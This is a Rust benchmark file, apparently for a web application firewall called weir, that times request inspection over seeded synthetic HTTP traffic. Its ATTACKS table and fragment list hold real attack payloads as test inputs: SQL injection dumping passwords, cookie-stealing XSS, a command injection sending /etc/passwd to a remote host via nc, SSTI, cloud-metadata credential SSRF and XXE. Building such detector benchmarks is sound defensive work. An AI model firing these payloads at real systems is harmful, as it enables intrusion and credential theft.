@@ -1,0 +1,392 @@
+//! Time and instructions of `inspect()` over thousands of distinct inputs.
+//!
+//! ```text
+//! cargo bench --bench inspect                       # microseconds, best of five rounds over the whole set
+//! benches/instructions                              # instructions a request, counted by callgrind
+//! ```
+//!
+//! One repeated input would show the caches of the regex engines, not their work: each set holds distinct requests made
+//! from a seed. The hostile set is glued from fragments of attacks, so that prefilters and confirmations run all the time.
+
+use std::hint::black_box;
+use std::time::Instant;
+use weir::engine::{Plan, Scratch, inspect};
+use weir::parse::message;
+use weir::ruleset::{Ruleset, builtin, compile};
+
+/// Rounds over each set; the best counts, for the machine may be busy.
+const ROUNDS: usize = 5;
+
+/// SplitMix64: the sets must be the same on every run and machine.
+struct Random(u64);
+
+impl Random {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    fn below(&mut self, n: usize) -> usize {
+        (self.next() % n as u64) as usize
+    }
+
+    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
+        from[self.below(from.len())]
+    }
+}
+
+const WORDS: &[&str] = &[
+    "account",
+    "address",
+    "amount",
+    "article",
+    "balance",
+    "basket",
+    "black",
+    "brand",
+    "budget",
+    "button",
+    "camera",
+    "carbon",
+    "category",
+    "center",
+    "chapter",
+    "city",
+    "client",
+    "color",
+    "comment",
+    "company",
+    "contract",
+    "country",
+    "created",
+    "currency",
+    "customer",
+    "delivery",
+    "description",
+    "discount",
+    "document",
+    "email",
+    "engine",
+    "event",
+    "factory",
+    "feature",
+    "february",
+    "filter",
+    "folder",
+    "garden",
+    "green",
+    "group",
+    "history",
+    "holiday",
+    "image",
+    "invoice",
+    "item",
+    "january",
+    "journey",
+    "kitchen",
+    "label",
+    "language",
+    "ledger",
+    "letter",
+    "location",
+    "machine",
+    "manager",
+    "market",
+    "message",
+    "metric",
+    "mobile",
+    "monday",
+    "number",
+    "office",
+    "order",
+    "packet",
+    "page",
+    "parcel",
+    "payment",
+    "person",
+    "phone",
+    "picture",
+    "planet",
+    "price",
+    "printer",
+    "product",
+    "profile",
+    "project",
+    "quality",
+    "quarter",
+    "receipt",
+    "record",
+    "region",
+    "report",
+    "return",
+    "river",
+    "sample",
+    "section",
+    "select",
+    "session",
+    "shipment",
+    "silver",
+    "status",
+    "store",
+    "street",
+    "subject",
+    "summary",
+    "ticket",
+    "title",
+    "total",
+    "travel",
+    "union",
+    "update",
+    "user",
+    "value",
+    "vendor",
+    "version",
+    "video",
+    "village",
+    "warehouse",
+    "weather",
+    "window",
+    "winter",
+    "yellow",
+];
+const AGENTS: &[&str] = &[
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
+    "okhttp/4.12.0",
+    "python-requests/2.32.3",
+];
+const FRAGMENTS: &[&str] = &[
+    "' or 1=1-- ",
+    "union all select ",
+    "<script>",
+    "onerror=",
+    "../../",
+    "etc/passwd",
+    "${jndi:",
+    "{{7*7}}",
+    ";cat ",
+    "$(id)",
+    "`whoami`",
+    "javascript:",
+    "<svg/onload=",
+    "sleep(5)",
+    "/*!50000",
+    "%0d%0a",
+    "file:///",
+    "http://169.254.169.254/",
+    "base64,",
+    "<!ENTITY x SYSTEM ",
+    "O:8:\"",
+    "waitfor delay ",
+    "concat(0x7e,",
+    "\\u003c",
+    "&#x3c;",
+    "(|(uid=*",
+    "<!--#exec ",
+    "<?php ",
+];
+
+fn sentence(r: &mut Random, words: usize) -> String {
+    (0..words).map(|_| r.pick(WORDS)).collect::<Vec<_>>().join(" ")
+}
+
+fn head(r: &mut Random, line: &str, extra: &str) -> String {
+    format!(
+        "{line} HTTP/1.1\r\nHost: api{}.example.com\r\nUser-Agent: {}\r\nAccept: application/json\r\n{extra}\r\n",
+        r.below(9),
+        r.pick(AGENTS)
+    )
+}
+
+fn get(r: &mut Random) -> Vec<u8> {
+    let line = format!(
+        "GET /v1/{}/{}/{}?{}={}&limit={}&cursor={:016x}",
+        r.pick(WORDS),
+        r.below(100_000),
+        r.pick(WORDS),
+        r.pick(WORDS),
+        sentence(r, 2).replace(' ', "+"),
+        r.below(100),
+        r.next()
+    );
+    let extra = format!("Cookie: sid={:016x}{:016x}; theme={}\r\n", r.next(), r.next(), r.pick(WORDS));
+    head(r, &line, &extra).into_bytes()
+}
+
+fn json_value(r: &mut Random) -> String {
+    match r.below(6) {
+        0 => r.below(1_000_000).to_string(),
+        1 => format!(
+            "\"{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}\"",
+            r.next() as u32,
+            r.below(65536),
+            r.below(4096),
+            r.below(4096),
+            r.next() >> 16
+        ),
+        2 => format!("\"{}@{}.example\"", r.pick(WORDS), r.pick(WORDS)),
+        3 => format!("\"2026-{:02}-{:02}T{:02}:00:00Z\"", 1 + r.below(12), 1 + r.below(28), r.below(24)),
+        4 => {
+            let words = 3 + r.below(9);
+            format!("\"{}, and it's {}.\"", sentence(r, words), sentence(r, 2))
+        }
+        _ => format!("\"{}\"", r.pick(WORDS)),
+    }
+}
+
+fn json(r: &mut Random, size: usize) -> String {
+    let mut out = String::from("{\"items\":[");
+    while out.len() + 2 < size {
+        out.push('{');
+        for _ in 0..6 {
+            out.push_str(&format!("\"{}_{}\":{},", r.pick(WORDS), r.pick(WORDS), json_value(r)));
+        }
+        out.pop();
+        out.push_str("},");
+    }
+    out.pop();
+    out.push_str("]}");
+    out
+}
+
+fn post(r: &mut Random, content_type: &str, body: &[u8]) -> Vec<u8> {
+    let line = format!("POST /v1/{}", r.pick(WORDS));
+    let extra = format!("Content-Type: {content_type}\r\nContent-Length: {}\r\n", body.len());
+    let mut raw = head(r, &line, &extra).into_bytes();
+    raw.extend_from_slice(body);
+    raw
+}
+
+fn form(r: &mut Random, size: usize) -> Vec<u8> {
+    let mut body = String::new();
+    while body.len() < size {
+        let words = 1 + r.below(8);
+        body.push_str(&format!("{}_{}={}&", r.pick(WORDS), r.below(99), sentence(r, words).replace(' ', "+")));
+    }
+    body.pop();
+    post(r, "application/x-www-form-urlencoded", body.as_bytes())
+}
+
+fn multipart(r: &mut Random, size: usize) -> Vec<u8> {
+    let mut file = Vec::with_capacity(size);
+    while file.len() < size {
+        if r.below(2) == 0 {
+            file.extend_from_slice(sentence(r, 12).as_bytes());
+        } else {
+            file.extend_from_slice(&r.next().to_le_bytes());
+        }
+    }
+    let mut body = b"--x7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.bin\"\r\n\r\n".to_vec();
+    body.extend_from_slice(&file);
+    body.extend_from_slice(b"\r\n--x7--\r\n");
+    post(r, "multipart/form-data; boundary=x7", &body)
+}
+
+fn hostile(r: &mut Random, size: usize) -> Vec<u8> {
+    let mut text = String::new();
+    while text.len() < size {
+        text.push_str(r.pick(FRAGMENTS));
+        if r.below(3) == 0 {
+            text.push_str(r.pick(WORDS));
+        }
+    }
+    let body = serde_json::json!({"q": text, "id": r.below(1000)}).to_string();
+    post(r, "application/json", body.as_bytes())
+}
+
+/// One attack of a class, among ordinary parameters.
+fn attack(r: &mut Random, payload: &str) -> Vec<u8> {
+    let body = serde_json::json!({"id": r.below(99_999), "name": sentence(r, 2), "q": payload}).to_string();
+    post(r, "application/json", body.as_bytes())
+}
+
+const ATTACKS: &[(&str, &str)] = &[
+    ("attack sqli", "1' UNION ALL SELECT NULL,concat(user,0x3a,password) FROM users-- -"),
+    ("attack xss", "\"><img src=x onerror=alert(document.cookie)>"),
+    ("attack rce", "127.0.0.1; cat /etc/passwd | nc 203.0.113.5 4444"),
+    ("attack ptrav", "../../../../../../etc/shadow"),
+    ("attack ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
+    ("attack ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ("attack xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
+    ("attack nosqli", "{\"user\":{\"$ne\":null},\"password\":{\"$ne\":null}}"),
+    ("attack ldapi", "*)(uid=*))(|(uid=*"),
+    ("attack crlf", "x\r\nSet-Cookie: session=evil"),
+];
+
+struct Set {
+    name: &'static str,
+    requests: Vec<Vec<u8>>,
+}
+
+fn sets() -> Vec<Set> {
+    let mut r = Random(7);
+    let mut many = |name, n: usize, make: &mut dyn FnMut(&mut Random) -> Vec<u8>| Set {
+        name,
+        requests: (0..n).map(|_| make(&mut r)).collect(),
+    };
+    let mut out = vec![
+        many("GET 300 B", 4000, &mut get),
+        many("JSON 2 KB", 3000, &mut |r| {
+            let body = json(r, 2048);
+            post(r, "application/json", body.as_bytes())
+        }),
+        many("JSON 64 KB", 100, &mut |r| {
+            let body = json(r, 65_536);
+            post(r, "application/json", body.as_bytes())
+        }),
+        many("form 2 KB", 3000, &mut |r| form(r, 2048)),
+        many("multipart 1 MB", 8, &mut |r| multipart(r, 1 << 20)),
+        many("hostile 1.8 KB", 2000, &mut |r| hostile(r, 1800)),
+    ];
+    for (name, payload) in ATTACKS {
+        out.push(many(name, 500, &mut |r| attack(r, payload)));
+    }
+    out
+}
+
+fn round(set: &Set, ruleset: &Ruleset, scratch: &mut Scratch) -> (f64, usize) {
+    let plan = Plan::default();
+    let begin = Instant::now();
+    let mut attacks = 0;
+    for raw in &set.requests {
+        let message = message::request(black_box(raw));
+        attacks += usize::from(
+            black_box(inspect(&message, ruleset, &plan, scratch, &|| false)).findings.iter().any(|f| f.decisive),
+        );
+    }
+    (begin.elapsed().as_secs_f64() * 1e6 / set.requests.len() as f64, attacks)
+}
+
+fn main() {
+    let ruleset = compile::compile(&builtin::files()).expect("built-in rules compile");
+    let mut scratch = Scratch::default();
+    let arguments: Vec<String> = std::env::args().skip(1).filter(|a| a != "--bench").collect();
+    // `--once NAME TIMES`: what callgrind counts; the difference of two runs is the cost of the requests alone.
+    if let [flag, name, times] = arguments.as_slice()
+        && flag == "--once"
+    {
+        let set = sets().into_iter().find(|s| s.name == name).expect("a set of this name");
+        for _ in 0..times.parse().expect("a number") {
+            black_box(round(&set, &ruleset, &mut scratch));
+        }
+        println!("{}", set.requests.len());
+        return;
+    }
+    println!("{} signatures, {} detectors", ruleset.signatures.len(), weir::detect::TABLE.len());
+    println!("{:16} {:>6} {:>9} {:>11} {:>9} {:>9}", "set", "n", "octets", "us/request", "MB/s", "attacks");
+    for set in sets() {
+        let octets = set.requests.iter().map(Vec::len).sum::<usize>() / set.requests.len();
+        let rounds: Vec<(f64, usize)> = (0..ROUNDS).map(|_| round(&set, &ruleset, &mut scratch)).collect();
+        let best = rounds.iter().map(|r| r.0).fold(f64::INFINITY, f64::min);
+        println!(
+            "{:16} {:>6} {octets:>9} {best:>11.2} {:>9.1} {:>9}",
+            set.name,
+            set.requests.len(),
+            octets as f64 / best,
+            rounds[0].1
+        );
+    }
+}
